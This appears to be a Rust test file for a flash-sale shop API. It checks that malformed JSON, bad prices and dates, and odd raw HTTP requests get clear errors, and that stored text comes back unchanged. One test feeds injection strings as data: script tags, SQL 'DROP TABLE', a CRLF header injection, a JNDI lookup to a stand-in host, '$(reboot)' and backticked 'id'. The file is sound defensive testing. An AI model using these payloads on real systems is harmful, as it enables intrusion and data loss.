//! Requests that mean no good, or know no better: each gets a clear answer, and what can be stored is given back as it came.

use crate::merchant::{Merchant, error_pointers, eur, id, order};
use crate::support::{HttpReply, SignedInUser, TestApp};
use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use test_servers::wait::HANG_LIMIT;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;

async fn post_raw(app: &TestApp, token: &str, path: &str, body: impl Into<reqwest::Body>) -> HttpReply {
    let request = app.request(Method::POST, &format!("/api/v1{path}")).bearer_auth(token);
    HttpReply::send(request.header("content-type", "application/json").body(body)).await
}

/// What the shop replies to these bytes, up to its closing the connection or to `enough`.
async fn send_raw(app: &TestApp, bytes: &[u8], enough: &str) -> String {
    let mut stream = TcpStream::connect(app.instance.address).await.unwrap();
    let _reset = stream.write_all(bytes).await;
    let mut result = Vec::new();
    let reading = async {
        let mut part = [0; 4096];
        while let Ok(len @ 1..) = stream.read(&mut part).await {
            result.extend_from_slice(&part[..len]);
            if !enough.is_empty() && String::from_utf8_lossy(&result).contains(enough) {
                break;
            }
        }
    };
    let read = tokio::time::timeout(HANG_LIMIT, reading).await;
    let result = String::from_utf8_lossy(&result).into_owned();
    assert!(
        read.is_ok(),
        "no answer in time to {:?}: {result}",
        String::from_utf8_lossy(&bytes[..bytes.len().min(60)])
    );
    result
}

/// A POST of an order over a bare connection, with these headers and this body.
fn raw_order(buyer: &SignedInUser, headers: &str, body: &str) -> String {
    let token = &buyer.access;
    format!(
        "POST /api/v1/orders HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {token}\r\ncontent-type: application/json\r\n{headers}\r\n{body}"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn an_order_of_a_strange_quantity_or_shape_is_pointed_at() {
    let app = TestApp::start().await;
    let merchant = Merchant::sign_in(&app).await;
    let ada = app.register("ada").await;
    let sale = merchant.sale(&json!({"limitPerBuyer": 3})).await;
    let post_quantity = async |quantity: &str| {
        let body = format!(r#"{{"flashSaleId":"{sale}","quantity":{quantity}}}"#);
        post_raw(&app, &ada.access, "/orders", body).await
    };
    for quantity in
        ["0", "-0", "-1", "1.0", "1.5", "1e2", "4294967296", "1e40", "\"1\"", "true", "null", "[1]", "{}"]
    {
        let reply = post_quantity(quantity).await;
        assert_eq!(
            (reply.problem().as_str(), error_pointers(&reply)),
            ("invalid_body", vec!["/quantity".to_owned()]),
            "{quantity}"
        );
        let detail = reply.json()["errors"][0]["detail"].clone();
        assert_eq!(detail, "must be a whole number from 1 up", "{quantity}");
    }
    for quantity in ["1e400", "01", "NaN", "1x", "+1", "1,", ""] {
        let reply = post_quantity(quantity).await;
        assert_eq!((reply.status.as_u16(), reply.problem().as_str()), (400, "bad_json"), "{quantity}");
    }
    for quantity in [4, u32::MAX] {
        assert_eq!(order(&app, &ada, &sale, quantity).await.problem(), "limit_reached");
    }
    let s = &sale;
    for (body, pointer, detail) in [
        ("{}".to_owned(), "/flashSaleId", "is required"),
        (format!(r#"{{"flashSaleId":"{s}","quantity":1,"quantity":2}}"#), "/quantity", "is there twice"),
        (format!(r#"{{"flashSaleId":"{s}","price":1}}"#), "/price", "is not a field here"),
        (format!(r#"{{"flashSaleId":"{s}","buyerId":"{s}"}}"#), "/buyerId", "is not a field here"),
        (r#"{"flashSaleId":"a-thing"}"#.to_owned(), "/flashSaleId", "must be an id (a UUID)"),
        (r#"{"flashSaleId":7}"#.to_owned(), "/flashSaleId", "must be an id (a UUID)"),
        (format!(r#"{{"flashSaleId":{}{}}}"#, "[".repeat(9_000), "]".repeat(9_000)), "/flashSaleId", ""),
        ("null".to_owned(), "", "must be an object"),
        ("\"text\"".to_owned(), "", "must be an object"),
        (format!(r#"["{s}",1]"#), "", "must be an object"),
    ] {
        let reply = post_raw(&app, &ada.access, "/orders", body.clone()).await;
        assert_eq!(reply.problem(), "invalid_body", "{body:.80}");
        let error = reply.json()["errors"][0].clone();
        assert_eq!(error["pointer"], pointer, "{body:.80} {error}");
        assert!(detail.is_empty() || error["detail"] == detail, "{error}");
        assert!(
            !error["detail"].as_str().unwrap().contains("struct"),
            "the names of our types are ours: {error}"
        );
    }
    let utf16: Vec<u8> =
        format!(r#"{{"flashSaleId":"{s}"}}"#).encode_utf16().flat_map(u16::to_le_bytes).collect();
    let bom = [b"\xef\xbb\xbf".as_slice(), format!(r#"{{"flashSaleId":"{s}"}}"#).as_bytes()].concat();
    for bytes in [utf16, bom, b"{\"flashSaleId\":\"\xff\xfe\"}".to_vec(), Vec::new()] {
        assert_eq!(post_raw(&app, &ada.access, "/orders", bytes).await.problem(), "bad_json");
    }
    assert_eq!(
        app.get(&format!("/api/v1/flash-sales/{sale}")).await.json()["held"],
        0,
        "nothing of it was ordered"
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_sale_of_a_strange_price_time_or_size_is_pointed_at() {
    let app = TestApp::start().await;
    let merchant = Merchant::sign_in(&app).await;
    let product = merchant.product("A thing").await;
    let yen = json!({"name": "Yen", "price": {"amount": 500, "currency": "JPY"}});
    let yen = id(&merchant.post("/products", &yen).await.json());
    let price = |amount: Value, currency: &str| json!({"price": {"amount": amount, "currency": currency}});
    for (product, more, pointer) in [
        (&product, price(json!(-1), "EUR"), "/price/amount"),
        (&product, price(json!(49.99), "EUR"), "/price/amount"),
        (&yen, price(json!(500.0), "JPY"), "/price/amount"),
        (&yen, price(json!(500.5), "JPY"), "/price/amount"),
        (&product, price(json!("4999"), "EUR"), "/price/amount"),
        (&product, price(json!(100_000_000_001_i64), "EUR"), "/price/amount"),
        (&product, price(json!(u64::MAX), "EUR"), "/price/amount"),
        (&product, price(json!(1), "eur"), "/price/currency"),
        (&product, price(json!(1), "BTC"), "/price/currency"),
        (&product, json!({"price": 1}), "/price"),
        (&product, json!({"quantity": -1}), "/quantity"),
        (&product, json!({"quantity": 1.5}), "/quantity"),
        (&product, json!({"quantity": 10_000_001}), "/quantity"),
        (&product, json!({"quantity": u64::MAX}), "/quantity"),
        (&product, json!({"endsAt": merchant.moment(-1_000)}), "/endsAt"),
        (&product, json!({"endsAt": merchant.moment(-60_000)}), "/endsAt"),
        (&product, json!({"endsAt": "10000-01-01T00:00:00Z"}), "/endsAt"),
        (&product, json!({"endsAt": "9999-12-31T23:59:59Z"}), "/endsAt"),
        (&product, json!({"endsAt": "2026-13-01T00:00:00Z"}), "/endsAt"),
        (&product, json!({"endsAt": 1_795_780_800}), "/endsAt"),
        (&product, json!({"startsAt": "0000-01-01T00:00:00Z"}), "/startsAt"),
        (&product, json!({"startsAt": "2026-11-27T12:00:00"}), "/startsAt"),
        (&product, json!({"admission": "open"}), "/admission"),
        (&product, json!({"admission": {"type": "raffle"}}), "/admission/type"),
        (&product, json!({"admission": {"type": "open", "perSecond": 1}}), "/admission/perSecond"),
    ] {
        let reply = merchant.post("/flash-sales", &merchant.sale_body(product, &more)).await;
        assert_eq!(error_pointers(&reply), [pointer], "{more}");
    }
    let last = json!({"startsAt": "9999-12-29T00:00:00Z", "endsAt": "9999-12-30T21:59:59Z"});
    let reply = merchant.post("/flash-sales", &merchant.sale_body(&product, &last)).await;
    assert_eq!(
        (reply.status, &reply.json()["endsAt"]),
        (StatusCode::CREATED, &json!("9999-12-30T21:59:59.000Z"))
    );

    let body = merchant.sale_body(&product, &json!({})).to_string();
    let twice = body.replacen("\"quantity\":10", "\"quantity\":10,\"quantity\":11", 1);
    assert_ne!(twice, body);
    let reply = post_raw(&app, &merchant.token, "/admin/flash-sales", twice).await;
    assert_eq!(error_pointers(&reply), ["/quantity"], "a duplicate field is refused");
    let nested = r#"{"name":"x","price":{"amount":1,"amount":2,"currency":"EUR"}}"#;
    assert_eq!(
        error_pointers(&post_raw(&app, &merchant.token, "/admin/products", nested).await),
        ["/price/amount"]
    );
    for body in
        ["1e400", "{\"name\":1e400}", &format!("{{\"name\":{}", "[".repeat(9_000)), "{\"name\":\"\\ud800\"}"]
    {
        assert_eq!(
            post_raw(&app, &merchant.token, "/admin/products", body.to_owned()).await.problem(),
            "bad_json"
        );
    }
    assert_eq!(app.get("/api/v1/flash-sales").await.json()["items"].as_array().unwrap().len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn sql_and_script_in_every_text_field_are_stored_and_returned_as_given() {
    let app = TestApp::start().await;
    let merchant = Merchant::sign_in(&app).await;
    let ada = app.register("ada").await;
    for text in [
        "<script>alert(document.cookie)</script>",
        "'; DROP TABLE products; --",
        "\" OR 1=1 --",
        "%00%0d%0aSet-Cookie: a=b",
        "${jndi:ldap://evil.example/x} {{7*7}} $(reboot) `id`",
        "\\u0000 \\n \\\"",
        "مرحبا \u{202e}gnp.exe \u{200f}",
        "👩‍👩‍👧‍👦🔥 日本 Ｚ͑ͫ̓a̴lgo",
        " with blanks around ",
    ] {
        let category: String = text.chars().take(100).collect();
        let body = json!({"name": text, "description": text, "category": category, "price": eur(1), "imageUrl": "/a?b='<script>;--"});
        let made = merchant.post("/products", &body).await;
        assert_eq!(made.status, StatusCode::CREATED, "{made:?}");
        let made = made.json();
        for reply in [
            app.get(&format!("/api/v1/products/{}", id(&made))).await,
            app.get("/api/v1/products?limit=1").await,
        ] {
            assert_eq!(reply.header("content-type"), "application/json");
            assert_eq!(reply.header("x-content-type-options"), "nosniff");
            let json = reply.json();
            let product = if json["items"].is_array() { &json["items"][0] } else { &json };
            for name in ["name", "description", "category", "imageUrl"] {
                assert_eq!(product[name], body[name], "{text}");
            }
        }
        let sale = merchant.post("/flash-sales", &merchant.sale_body(&id(&made), &json!({}))).await.json();
        let shown = app.get(&format!("/api/v1/flash-sales/{}", sale["slug"].as_str().unwrap())).await.json();
        assert_eq!(shown["product"]["name"], text);

        let address = |path: &str| {
            let mut url = reqwest::Url::parse(&format!("http://{}{path}", app.instance.address)).unwrap();
            url.path_segments_mut().unwrap().push(text);
            url
        };
        for path in ["/api/v1/products", "/api/v1/flash-sales", "/api/v1/orders", "/problems"] {
            let reply = HttpReply::send(app.http.get(address(path)).bearer_auth(&ada.access)).await;
            assert_eq!(reply.status, StatusCode::NOT_FOUND, "{path} {text}");
            reply.problem();
        }
        let who: String = form_urlencoded::byte_serialize(text.as_bytes()).collect();
        assert_eq!(merchant.get(&format!("/orders?buyer={who}")).await["items"], json!([]), "{text}");
        let made = id(&order(&app, &ada, sale["id"].as_str().unwrap(), 1).await.json());
        let paid =
            app.post_as(&ada.access, &format!("/api/v1/orders/{made}/pay"), &json!({"method": text})).await;
        assert_eq!(error_pointers(&paid), ["/method"]);
        let key = app.request(Method::POST, "/api/v1/orders").bearer_auth(&ada.access);
        let key = key.header("idempotency-key", text.as_bytes()).json(&json!({"flashSaleId": sale["id"]}));
        assert!(
            ["limit_reached", "bad_idempotency_key"].contains(&HttpReply::send(key).await.problem().as_str())
        );
    }
    for text in ["nul\u{0}", "line\nbreak", "\u{1b}[31m", "\u{2028}", &"x".repeat(60_000)] {
        let reply = merchant.post("/products", &json!({"name": text, "price": eur(1)})).await;
        assert_eq!(error_pointers(&reply), ["/name"]);
        assert!(reply.body.len() < 1_000, "the reply does not repeat a long name");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn every_dialect_of_http_gets_an_answer() {
    let app = TestApp::start().await;
    let merchant = Merchant::sign_in(&app).await;
    let ada = app.register("ada").await;
    let sale = merchant.sale(&json!({"limitPerBuyer": 100, "quantity": 100})).await;
    let body = json!({"flashSaleId": sale}).to_string();
    let len = body.len();
    let plain = raw_order(&ada, &format!("content-length: {len}\r\n"), &body);
    let chunked = format!("{len:x}\r\n{body}\r\n0\r\n\r\n");
    let many: String = (0..70).map(|n| format!("x-{n}: 1\r\n")).collect();
    for (bytes, status) in [
        ("GET /livez HTTP/1.0\r\n\r\n".to_owned(), "HTTP/1.0 200"),
        ("HEAD /nowhere HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(), "HTTP/1.1 404"),
        ("OPTIONS * HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(), "HTTP/1.1 404"),
        ("CONNECT x:80 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(), "HTTP/1.1 404"),
        ("TRACE /livez HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(), "HTTP/1.1 405"),
        (
            "GET //api//v1/products HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(),
            "HTTP/1.1 404",
        ),
        (
            "GET /api/v1/auth/../products HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(),
            "HTTP/1.1 404",
        ),
        (
            "GET /api/v1/products/%00 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(),
            "HTTP/1.1 404",
        ),
        (
            "GET /api/v1/flash-sales/日本 HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n".to_owned(),
            "HTTP/1.1 404",
        ),
        (
            format!("GET /{} HTTP/1.1\r\nhost: x\r\nconnection: close\r\n\r\n", "a".repeat(10_000)),
            "HTTP/1.1 404",
        ),
        (raw_order(&ada, &format!("content-length: {len}\r\nconnection: close\r\n"), &body), "HTTP/1.1 201"),
        (raw_order(&ada, "transfer-encoding: chunked\r\nconnection: close\r\n", &chunked), "HTTP/1.1 201"),
        (
            raw_order(
                &ada,
                &format!("expect: 100-continue\r\ncontent-length: {len}\r\nconnection: close\r\n"),
                &body,
            ),
            "HTTP/1.1 100",
        ),
        (raw_order(&ada, "expect: 100-continue\r\ncontent-length: 99999999\r\n", ""), "HTTP/1.1 413"),
        (raw_order(&ada, "content-length: 0\r\nconnection: close\r\n", ""), "HTTP/1.1 400"),
        (raw_order(&ada, "connection: close\r\n", ""), "HTTP/1.1 400"),
        (
            raw_order(
                &ada,
                &format!("content-encoding: gzip\r\ncontent-length: {len}\r\nconnection: close\r\n"),
                &body,
            ),
            "HTTP/1.1 415",
        ),
        // What hyper itself refuses, before there is a request.
        (format!("GET /livez HTTP/1.1\r\nhost: x\r\n{many}\r\n"), "HTTP/1.1 431"),
        (format!("GET /{} HTTP/1.1\r\nhost: x\r\n\r\n", "a".repeat(70_000)), "HTTP/1.1 4"),
        (format!("GET /livez HTTP/1.1\r\nhost: x\r\nx-a: {}\r\n\r\n", "a".repeat(100_000)), "HTTP/1.1 431"),
        ("GET /livez HTTP/1.1\r\nhost: x\r\nno colon\r\n\r\n".to_owned(), "HTTP/1.1 400"),
        ("GET /livez HTTP/1.1\r\nhost: x\r\nx-a: a\r\n folded\r\n\r\n".to_owned(), "HTTP/1.1 400"),
        ("GET / HTTP/9.9\r\n\r\n".to_owned(), "HTTP/1.1 400"),
        ("\u{0}\u{1}\u{2}\r\n\r\n".to_owned(), "HTTP/1.1 400"),
        (raw_order(&ada, "content-length: 5\r\ncontent-length: 6\r\n", "hello"), "HTTP/1.1 400"),
        (raw_order(&ada, "content-length: -1\r\n", ""), "HTTP/1.1 400"),
        (raw_order(&ada, "content-length: 99999999999999999999999\r\n", ""), "HTTP/1.1 400"),
    ] {
        let reply = send_raw(&app, bytes.as_bytes(), "").await;
        assert!(reply.starts_with(status), "{bytes:.90} → {reply:.90}");
    }
    // What comes behind a whole request does not hold its answer back: a line break too many, half of the next, or rubbish.
    for behind in ["\r\n", "GET /livez HT", "\u{0}\u{0}rubbish\r\n\r\n"] {
        let reply = send_raw(&app, format!("{plain}{behind}").as_bytes(), "HTTP/1.1 201").await;
        assert!(reply.starts_with("HTTP/1.1 201"), "{behind:?} → {reply:.90}");
    }
    let orders = app.get_as(&ada.access, "/api/v1/orders").await.json()["items"].as_array().unwrap().len();
    assert_eq!(orders, 6, "three in a dialect and three with something behind: each once");
    assert_eq!(app.get("/livez").await.body, b"ok");
}
